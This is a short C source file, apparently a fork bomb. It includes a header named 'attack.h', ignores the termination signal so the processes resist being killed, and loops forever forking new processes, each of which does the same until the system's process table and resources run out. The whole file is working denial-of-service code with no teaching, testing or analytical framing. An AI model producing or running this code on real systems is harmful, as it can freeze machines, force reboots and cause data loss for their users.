// Every process forks as often as it can, for ever.
#include "attack.h"

int main(void)
{
    signal(SIGTERM, SIG_IGN);
    for (;;)
        if (fork() < 0)
            usleep(1000);
}
